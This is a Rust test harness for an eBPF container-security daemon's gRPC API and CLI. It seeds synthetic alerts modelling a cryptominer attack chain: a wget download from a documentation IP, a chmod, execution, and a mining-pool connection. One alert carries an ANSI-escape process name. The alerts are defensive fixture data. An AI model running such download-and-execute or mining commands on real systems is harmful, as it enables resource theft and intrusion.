//! Harness of the API tests: a real `Daemon` (eBPF sensor, rules, SQLite store in a temp
//! dir) with the real gRPC server on a temp unix socket (and mTLS TCP on 127.0.0.1),
//! seeded with the mission's alerts; the `saker` CLI binary; tonic clients; certificates
//! made with `openssl` at test time; and a Python venv for the independent client.
//!
//! Everything runs as root (the sensor loads eBPF programs). A missing tool fails the
//! test with a message naming it; nothing is skipped.
#![allow(dead_code)]

use std::net::{IpAddr, Ipv4Addr, SocketAddr};
use std::path::{Path, PathBuf};
use std::process::{Command, Output};
use std::sync::Arc;
use std::time::{Duration, SystemTime, UNIX_EPOCH};

use hyper_util::rt::TokioIo;
use saker::api::{ApiConfig, ApiServer, Limits, TcpConfig};
use saker::daemon::{Daemon, DaemonConfig};
use saker_event::event::{Connect, Exec, FileKind, FileOp, Process, AT_FDCWD};
use saker_event::{
    Alert, Ancestor, BString, Body, ContainerMeta, Context, Enriched, Event, ProcContext, Severity,
};
use tonic::transport::{Channel, Endpoint, Uri};

pub const SEC: i64 = 1_000_000_000;
pub const NODE: &str = "api-node";
pub const CLUSTER: &str = "api-test";
pub const NS: &str = "risk-10-aws-bedrock-java";
pub const SCRIPT: &str = "./malicious-bin-event-gen.sh";
pub const MINER_SHA: &str = "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08";
pub const TOKEN: &str = "api-t0ken-0123456789";

pub fn require_root() {
    // SAFETY: geteuid has no preconditions.
    assert_eq!(
        unsafe { libc::geteuid() },
        0,
        "the API tests start the daemon, which loads eBPF programs: run them as root"
    );
}

pub fn now_ns() -> i64 {
    SystemTime::now()
        .duration_since(UNIX_EPOCH)
        .unwrap()
        .as_nanos() as i64
}

/// A fresh directory under the system temp dir (short: socket paths are limited).
pub fn temp_dir(tag: &str) -> PathBuf {
    let d = std::env::temp_dir().join(format!("saker-api-{tag}-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&d);
    std::fs::create_dir_all(&d).unwrap();
    d
}

pub fn rules_file() -> PathBuf {
    PathBuf::from(concat!(
        env!("CARGO_MANIFEST_DIR"),
        "/../rules/saker_rules.yaml"
    ))
}

// ---------------------------------------------------------------------------------------
// Certificates

/// PEM files made by openssl: a CA, a server certificate (localhost, 127.0.0.1) and a
/// client certificate signed by it, and a client certificate from another CA.
#[derive(Clone)]
pub struct Certs {
    pub dir: PathBuf,
    pub ca: PathBuf,
    pub server_cert: PathBuf,
    pub server_key: PathBuf,
    pub client_cert: PathBuf,
    pub client_key: PathBuf,
    pub rogue_cert: PathBuf,
    pub rogue_key: PathBuf,
}

fn openssl(dir: &Path, args: &[&str]) {
    let out = Command::new("openssl")
        .args(args)
        .current_dir(dir)
        .output()
        .unwrap_or_else(|e| {
            panic!("running openssl failed ({e}): install it (Debian package `openssl`)")
        });
    assert!(
        out.status.success(),
        "openssl {args:?} failed: {}",
        String::from_utf8_lossy(&out.stderr)
    );
}

fn make_ca(dir: &Path, name: &str) {
    openssl(
        dir,
        &[
            "req",
            "-x509",
            "-newkey",
            "ec",
            "-pkeyopt",
            "ec_paramgen_curve:P-256",
            "-nodes",
            "-days",
            "2",
            "-subj",
            &format!("/CN={name}"),
            "-addext",
            "basicConstraints=critical,CA:TRUE",
            "-addext",
            "keyUsage=critical,keyCertSign,cRLSign",
            "-keyout",
            &format!("{name}.key"),
            "-out",
            &format!("{name}.pem"),
        ],
    );
}

fn make_leaf(dir: &Path, ca: &str, name: &str, ext: &str) {
    std::fs::write(dir.join(format!("{name}.ext")), ext).unwrap();
    openssl(
        dir,
        &[
            "req",
            "-newkey",
            "ec",
            "-pkeyopt",
            "ec_paramgen_curve:P-256",
            "-nodes",
            "-subj",
            &format!("/CN={name}"),
            "-keyout",
            &format!("{name}.key"),
            "-out",
            &format!("{name}.csr"),
        ],
    );
    openssl(
        dir,
        &[
            "x509",
            "-req",
            "-in",
            &format!("{name}.csr"),
            "-CA",
            &format!("{ca}.pem"),
            "-CAkey",
            &format!("{ca}.key"),
            "-CAcreateserial",
            "-days",
            "2",
            "-extfile",
            &format!("{name}.ext"),
            "-out",
            &format!("{name}.pem"),
        ],
    );
}

impl Certs {
    pub fn make(dir: &Path) -> Certs {
        std::fs::create_dir_all(dir).unwrap();
        make_ca(dir, "ca");
        make_ca(dir, "rogue-ca");
        make_leaf(
            dir,
            "ca",
            "server",
            // 127.0.0.2-4: the three-node fan-out test binds one node per address.
            "subjectAltName=DNS:localhost,IP:127.0.0.1,IP:127.0.0.2,IP:127.0.0.3,IP:127.0.0.4\nextendedKeyUsage=serverAuth\n",
        );
        make_leaf(dir, "ca", "client", "extendedKeyUsage=clientAuth\n");
        make_leaf(dir, "rogue-ca", "rogue", "extendedKeyUsage=clientAuth\n");
        let p = |n: &str| dir.join(n);
        Certs {
            dir: dir.to_path_buf(),
            ca: p("ca.pem"),
            server_cert: p("server.pem"),
            server_key: p("server.key"),
            client_cert: p("client.pem"),
            client_key: p("client.key"),
            rogue_cert: p("rogue.pem"),
            rogue_key: p("rogue.key"),
        }
    }
}

// ---------------------------------------------------------------------------------------
// The daemon and the server

#[derive(Default)]
pub struct Opts {
    pub token: Option<String>,
    pub tls: bool,
    pub limits: Limits,
    /// Node name (default NODE).
    pub node: Option<String>,
    /// TCP address to bind (default 127.0.0.1:0).
    pub tcp_ip: Option<Ipv4Addr>,
    /// Certificates to share with other nodes (default: made for this one).
    pub certs: Option<Certs>,
    /// Load the real models (models/weights, from `cargo xtask fetch-model`).
    pub models: bool,
}

/// A running daemon with the API in front of it.
pub struct Env {
    pub rt: tokio::runtime::Runtime,
    pub dir: PathBuf,
    pub daemon: Arc<Daemon>,
    pub server: Option<ApiServer>,
    pub socket: PathBuf,
    pub tcp: Option<SocketAddr>,
    pub certs: Option<Certs>,
}

impl Env {
    pub fn start(tag: &str, opts: Opts) -> Env {
        require_root();
        let dir = temp_dir(tag);
        let rt = tokio::runtime::Builder::new_multi_thread()
            .worker_threads(4)
            .enable_all()
            .build()
            .unwrap();
        let certs = match opts.certs {
            Some(c) => Some(c),
            None => opts.tls.then(|| Certs::make(&dir.join("tls"))),
        };
        let daemon = rt
            .block_on(async {
                Daemon::start(DaemonConfig {
                    node: opts.node.clone().unwrap_or_else(|| NODE.into()),
                    cluster: CLUSTER.into(),
                    rules: vec![rules_file()],
                    store_path: dir.join("store/saker.db"),
                    containerd: None,
                    ..Default::default()
                })
            })
            .expect("the daemon starts (eBPF sensor, rules, store)");
        let daemon = Arc::new(daemon);
        // The server creates the socket's directory (0750) itself.
        let socket = dir.join("run/saker.sock");
        let cfg = ApiConfig {
            socket: Some(socket.clone()),
            tcp: certs.as_ref().map(|c| TcpConfig {
                addr: SocketAddr::new(IpAddr::V4(opts.tcp_ip.unwrap_or(Ipv4Addr::LOCALHOST)), 0),
                cert: c.server_cert.clone(),
                key: c.server_key.clone(),
                client_ca: c.ca.clone(),
            }),
            token: opts.token,
            limits: opts.limits,
        };
        let server = rt
            .block_on(ApiServer::start(
                daemon.clone(),
                if opts.models {
                    assistant_with_models()
                } else {
                    assistant()
                },
                cfg,
            ))
            .expect("the API server starts");
        let tcp = server.tcp_addr();
        Env {
            rt,
            dir,
            daemon,
            server: Some(server),
            socket,
            tcp,
            certs,
        }
    }

    /// Stores alerts (and context events) as the pipeline would, and waits until they
    /// are committed.
    pub fn store(&self, alerts: &[Alert], events: &[Enriched]) {
        let w = self.daemon.store.writer();
        for e in events {
            assert!(w.send_event(e.clone()), "store queue full");
        }
        for a in alerts {
            let ctx: Vec<u64> = events
                .iter()
                .filter(|e| e.event.process.pid == a.event.event.process.pid)
                .map(|e| e.seq)
                .collect();
            assert!(w.send_with_context(a.clone(), ctx), "store queue full");
        }
        self.daemon.flush().expect("store flush");
    }

    /// The mission's alerts in three workloads, stored.
    pub fn seed(&self) -> Seeded {
        let s = mission(now_ns() - 600 * SEC);
        self.store(&s.alerts, &s.events);
        s
    }

    /// Runs the `saker` CLI against this server's socket.
    pub fn saker(&self, args: &[&str]) -> Output {
        let mut a = vec!["--socket", self.socket.to_str().unwrap()];
        a.extend_from_slice(args);
        saker(&a)
    }

    /// A tonic channel over the unix socket.
    pub fn channel(&self) -> Channel {
        self.rt.block_on(unix_channel(&self.socket))
    }

    /// Stops the server (checking the socket is removed), then the daemon.
    pub fn stop(mut self) {
        if let Some(s) = self.server.take() {
            self.rt.block_on(s.shutdown());
            assert!(!self.socket.exists(), "the socket is removed at shutdown");
        }
        if let Ok(d) = Arc::try_unwrap(self.daemon) {
            d.shutdown();
        }
        let _ = std::fs::remove_dir_all(&self.dir);
    }
}

/// The assistant as sakerd starts it (no model: deterministic narratives).
pub fn assistant() -> Option<Arc<saker_assist::Assistant>> {
    Some(Arc::new(
        saker_assist::Assistant::new(saker_assist::AssistConfig::default())
            .expect("the assistant starts"),
    ))
}

/// The assistant with the default models (SmolLM2 Q8_0 and MiniLM), as sakerd loads them.
pub fn assistant_with_models() -> Option<Arc<saker_assist::Assistant>> {
    let dir = std::env::var_os("SAKER_MODEL_DIR")
        .map(PathBuf::from)
        .unwrap_or_else(|| {
            PathBuf::from(concat!(env!("CARGO_MANIFEST_DIR"), "/../models/weights"))
        });
    let model = dir.join("smollm2-135m-instruct.q8_0.gguf");
    assert!(
        model.exists(),
        "{} is missing: run `cargo xtask fetch-model`",
        model.display()
    );
    Some(Arc::new(
        saker_assist::Assistant::new(saker_assist::AssistConfig {
            model_path: Some(model),
            embedder_dir: Some(dir.join("minilm")),
            threads: 1,
            ..saker_assist::AssistConfig::default()
        })
        .expect("the assistant starts with the models"),
    ))
}

pub async fn unix_channel(path: &Path) -> Channel {
    let path = path.to_path_buf();
    Endpoint::try_from("http://localhost")
        .unwrap()
        .connect_with_connector(tower::service_fn(move |_: Uri| {
            let p = path.clone();
            async move {
                Ok::<_, std::io::Error>(TokioIo::new(tokio::net::UnixStream::connect(p).await?))
            }
        }))
        .await
        .expect("connect to the API socket")
}

/// Runs the `saker` CLI binary.
pub fn saker(args: &[&str]) -> Output {
    Command::new(env!("CARGO_BIN_EXE_saker"))
        .args(args)
        .output()
        .expect("run saker")
}

pub fn stdout(o: &Output) -> String {
    String::from_utf8_lossy(&o.stdout).into_owned()
}

pub fn stderr(o: &Output) -> String {
    String::from_utf8_lossy(&o.stderr).into_owned()
}

/// JSON lines of `saker --json`.
pub fn json_lines(o: &Output) -> Vec<serde_json::Value> {
    stdout(o)
        .lines()
        .filter(|l| !l.trim().is_empty())
        .map(|l| serde_json::from_str(l).unwrap_or_else(|e| panic!("bad JSON line {l:?}: {e}")))
        .collect()
}

pub fn code(o: &Output) -> i32 {
    o.status.code().unwrap_or(-1)
}

/// Waits for `f` to hold (polling), or panics with `what`.
pub fn wait_for(what: &str, timeout: Duration, mut f: impl FnMut() -> bool) {
    let end = std::time::Instant::now() + timeout;
    while !f() {
        assert!(
            std::time::Instant::now() < end,
            "timed out waiting for {what}"
        );
        std::thread::sleep(Duration::from_millis(100));
    }
}

// ---------------------------------------------------------------------------------------
// The mission's alerts

pub struct Wl {
    pub cid: String,
    pub meta: ContainerMeta,
}

pub fn workload(ns: &str, wl: &str, pod: &str, name: &str, image: &str, n: u32) -> Wl {
    let cid = format!("{:0>64}", format!("c{n}"));
    Wl {
        meta: ContainerMeta {
            id: cid.clone(),
            runtime: "containerd".into(),
            name: Some(name.into()),
            image: Some(image.into()),
            pod_name: Some(pod.into()),
            namespace: Some(ns.into()),
            workload: Some(wl.into()),
            ..ContainerMeta::default()
        },
        cid,
    }
}

pub fn b(s: &str) -> BString {
    BString::from(s)
}

#[derive(Clone)]
pub struct P {
    pub pid: u32,
    pub ppid: u32,
    pub comm: BString,
    pub exe: BString,
    pub args: Vec<BString>,
    pub ancestors: Vec<Ancestor>,
    pub sha: Option<String>,
    pub upper: bool,
}

impl P {
    pub fn new(pid: u32, ppid: u32, comm: &[u8], exe: &str, args: &[&[u8]]) -> P {
        P {
            pid,
            ppid,
            comm: BString(comm.to_vec()),
            exe: b(exe),
            args: args.iter().map(|a| BString(a.to_vec())).collect(),
            ancestors: Vec::new(),
            sha: None,
            upper: false,
        }
    }

    pub fn child_ancestry(&self) -> Vec<Ancestor> {
        let mut v = vec![Ancestor {
            pid: self.pid,
            comm: self.comm.clone(),
            exe: self.exe.clone(),
            args: self.args.clone(),
        }];
        v.extend(self.ancestors.iter().cloned());
        v
    }
}

pub struct Rule {
    pub name: &'static str,
    pub policy: &'static str,
    pub severity: Severity,
    pub tactic: &'static str,
    pub technique: &'static str,
}

pub const SHELL: Rule = Rule {
    name: "Suspicious - Shell Spawned By Non-Shell Parent In Container",
    policy: "Suspicious Activity",
    severity: Severity::Notice,
    tactic: "TA0002",
    technique: "T1059.004",
};
pub const DOWNLOADER: Rule = Rule {
    name: "Suspicious - Downloader Tool Run In Container",
    policy: "Suspicious Activity",
    severity: Severity::Warning,
    tactic: "TA0011",
    technique: "T1105",
};
pub const CHMOD: Rule = Rule {
    name: "Drift - Executable Bit Added In Container",
    policy: "Drift Detection",
    severity: Severity::Error,
    tactic: "TA0005",
    technique: "T1222.002",
};
pub const DRIFT: Rule = Rule {
    name: "Drift - Binary Executed From Container Upper Layer",
    policy: "Drift Detection",
    severity: Severity::Critical,
    tactic: "TA0002",
    technique: "T1204.002",
};
pub const MINER: Rule = Rule {
    name: "Malware - Known Cryptominer Executed",
    policy: "Malicious Binary Detection",
    severity: Severity::Critical,
    tactic: "TA0040",
    technique: "T1496",
};
pub const POOL: Rule = Rule {
    name: "Malware - Connection To Mining Pool Port",
    policy: "Malicious Binary Detection",
    severity: Severity::Critical,
    tactic: "TA0040",
    technique: "T1496",
};

fn exec_body(p: &P, prevented: bool) -> Body {
    Body::Exec(Exec {
        filename: p.exe.clone(),
        args: p.args.clone(),
        args_truncated: false,
        filename_truncated: false,
        exe_dev: 0,
        exe_ino: 0,
        exe_overlay: true,
        exe_upper_layer: p.upper,
        exe_memfd: false,
        prevented,
    })
}

fn enriched(seq: u64, t: i64, p: &P, body: Body, wl: &Wl) -> Enriched {
    Enriched {
        seq,
        event: Event {
            time_ns: t,
            ktime_ns: 0,
            process: Process {
                tid: p.pid,
                pid: p.pid,
                ppid: p.ppid,
                comm: p.comm.clone(),
                ..Process::default()
            },
            body,
        },
        ctx: Context {
            proc: ProcContext {
                exe: p.exe.clone(),
                args: p.args.clone(),
                ancestors: p.ancestors.clone(),
                exe_sha256: p.sha.clone(),
                exe_upper_layer: p.upper,
                ..ProcContext::default()
            },
            container_id: Some(wl.cid.clone()),
            container: Some(wl.meta.clone()),
            node: NODE.into(),
            cluster: CLUSTER.into(),
            ..Context::default()
        },
    }
}

#[allow(clippy::too_many_arguments)]
fn alert(
    id: String,
    seq: u64,
    t: i64,
    rule: &Rule,
    p: &P,
    body: Body,
    wl: &Wl,
    prevented: bool,
) -> Alert {
    Alert {
        id,
        time_ns: t,
        rule: rule.name.into(),
        policy: Some(rule.policy.into()),
        severity: rule.severity,
        output: format!("{} by {}", rule.name, p.comm.to_str_lossy()),
        output_fields: Default::default(),
        tags: vec![rule.tactic.into(), rule.technique.into()],
        mitre_tactics: vec![rule.tactic.into()],
        mitre_techniques: vec![rule.technique.into()],
        prevented,
        event: enriched(seq, t, p, body, wl),
    }
}

/// What `mission` produced.
pub struct Seeded {
    pub alerts: Vec<Alert>,
    /// Context events (the miner's connect, no alert of its own besides the pool one).
    pub events: Vec<Enriched>,
    /// Alert ids per workload (0, 1 in NS; 2 in another namespace).
    pub by_workload: Vec<Vec<String>>,
    /// The alert whose process name and argument are not clean text.
    pub hostile_id: String,
    /// The prevented alert.
    pub prevented_id: String,
}

/// The mission chain in three workloads: `sh ./malicious-bin-event-gen.sh` downloads,
/// chmods and runs easyminer, which connects to a pool. In the third workload the
/// miner's exec is blocked (prevention). The first workload's miner has a name with an
/// ANSI escape and an argument that is not UTF-8.
pub fn mission(t0: i64) -> Seeded {
    let wls = [
        workload(
            NS,
            "bedrock-java",
            "bedrock-java-7d9f8c6b5-x2k4p",
            "app",
            "docker.io/acme/bedrock-java:1.4.2",
            1,
        ),
        workload(
            NS,
            "bedrock-java-worker",
            "bedrock-java-worker-5c8d7-q9wz1",
            "worker",
            "docker.io/acme/bedrock-java:1.4.2",
            2,
        ),
        workload(
            "risk-11-payments",
            "payments-api",
            "payments-api-6f7b9-mm3tr",
            "api",
            "docker.io/acme/payments-api:2.0.1",
            3,
        ),
    ];
    let mut alerts = Vec::new();
    let mut events = Vec::new();
    let mut by_workload = Vec::new();
    let mut hostile_id = String::new();
    let mut prevented_id = String::new();
    for (n, wl) in wls.iter().enumerate() {
        let base = 1000 * (n as u32 + 1);
        let t = t0 + (n as i64) * 60 * SEC;
        let seq = 100 * (n as u64 + 1);
        let shim = Ancestor {
            pid: base,
            comm: b("containerd-shim"),
            exe: b("/usr/local/bin/containerd-shim-runc-v2"),
            args: vec![
                b("/usr/local/bin/containerd-shim-runc-v2"),
                b("-namespace"),
                b("k8s.io"),
            ],
        };
        // Started through the runtime, as `kubectl exec` does: the script is the
        // topmost process inside the container.
        let mut script = P::new(
            base + 10,
            base,
            b"sh",
            "/bin/sh",
            &[b"sh", SCRIPT.as_bytes()],
        );
        script.ancestors = vec![shim];
        let mut wget = P::new(
            base + 11,
            base + 10,
            b"wget",
            "/usr/bin/wget",
            &[
                b"wget",
                b"http://203.0.113.7/easyminer",
                b"-O",
                b"/tmp/easyminer",
            ],
        );
        wget.ancestors = script.child_ancestry();
        let mut chmod = P::new(
            base + 12,
            base + 10,
            b"chmod",
            "/bin/chmod",
            &[b"chmod", b"+x", b"/tmp/easyminer"],
        );
        chmod.ancestors = script.child_ancestry();
        let (comm, arg): (&[u8], &[u8]) = if n == 0 {
            (b"easy\x1b[2Jminer", b"--user=\xff\xfeworker")
        } else {
            (b"easyminer", b"--user=worker")
        };
        let mut miner = P::new(
            base + 13,
            base + 10,
            comm,
            "/tmp/easyminer",
            &[
                b"/tmp/easyminer",
                b"--url",
                b"stratum+tcp://203.0.113.9:3333",
                arg,
            ],
        );
        miner.ancestors = script.child_ancestry();
        miner.sha = Some(MINER_SHA.into());
        miner.upper = true;
        let prevented = n == 2;
        let id = |s: &str| format!("api-w{n}-{s}");
        let mut v = vec![
            alert(
                id("shell"),
                seq,
                t,
                &SHELL,
                &script,
                exec_body(&script, false),
                wl,
                false,
            ),
            alert(
                id("wget"),
                seq + 1,
                t + SEC,
                &DOWNLOADER,
                &wget,
                exec_body(&wget, false),
                wl,
                false,
            ),
            alert(
                id("chmod"),
                seq + 2,
                t + 2 * SEC,
                &CHMOD,
                &chmod,
                Body::File(FileOp {
                    op: FileKind::Chmod,
                    path: b("/tmp/easyminer"),
                    path_truncated: false,
                    dfd: AT_FDCWD,
                    flags: 0,
                    mode: 0o755,
                    ret: 0,
                }),
                wl,
                false,
            ),
            alert(
                id("drift"),
                seq + 3,
                t + 3 * SEC,
                &DRIFT,
                &miner,
                exec_body(&miner, prevented),
                wl,
                prevented,
            ),
            alert(
                id("miner"),
                seq + 3,
                t + 3 * SEC,
                &MINER,
                &miner,
                exec_body(&miner, prevented),
                wl,
                prevented,
            ),
        ];
        if !prevented {
            let connect = Body::Connect(Connect {
                fd: 3,
                addr: IpAddr::V4(Ipv4Addr::new(203, 0, 113, 9)),
                port: 3333,
                ret: 0,
            });
            v.push(alert(
                id("pool"),
                seq + 4,
                t + 4 * SEC,
                &POOL,
                &miner,
                connect,
                wl,
                false,
            ));
            // A context event of the miner: a DNS lookup before the pool connection.
            events.push(enriched(
                seq + 5,
                t + 4 * SEC - SEC / 2,
                &miner,
                Body::Connect(Connect {
                    fd: 4,
                    addr: IpAddr::V4(Ipv4Addr::new(10, 96, 0, 10)),
                    port: 53,
                    ret: 0,
                }),
                wl,
            ));
        } else {
            prevented_id = id("drift");
        }
        if n == 0 {
            hostile_id = id("miner");
        }
        by_workload.push(v.iter().map(|a| a.id.clone()).collect());
        alerts.extend(v);
    }
    Seeded {
        alerts,
        events,
        by_workload,
        hostile_id,
        prevented_id,
    }
}

/// `n` distinct alerts for load tests (same shape as the first workload's miner alert).
pub fn bulk(n: usize, t0: i64, tag: &str) -> Vec<Alert> {
    let wl = workload(NS, "bulk", "bulk-0", "bulk", "docker.io/acme/bulk:1", 9);
    let p = P::new(
        9000,
        8999,
        b"easyminer",
        "/tmp/easyminer",
        &[b"/tmp/easyminer"],
    );
    (0..n)
        .map(|i| {
            alert(
                format!("{tag}-{i:06}"),
                1_000_000 + i as u64,
                t0 + i as i64,
                &MINER,
                &p,
                exec_body(&p, false),
                &wl,
                false,
            )
        })
        .collect()
}
